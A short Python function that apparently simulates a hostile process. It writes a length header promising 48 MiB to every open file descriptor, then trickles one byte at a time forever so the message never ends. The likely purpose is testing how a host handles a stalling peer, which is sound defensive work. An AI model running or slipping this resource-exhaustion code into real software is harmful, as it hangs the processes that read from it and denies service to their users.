"""Begins a long reply and sends it a byte at a time, so that it never quite ends."""

import contextlib
import os
import time


def attack(values):
    for descriptor in range(3, 256):
        with contextlib.suppress(OSError):
            os.write(descriptor, b"\x00\x00\x00\x03")  # 48 MiB are to come
    while True:
        for descriptor in range(3, 256):
            with contextlib.suppress(OSError):
                os.write(descriptor, b"x")
        time.sleep(0.01)
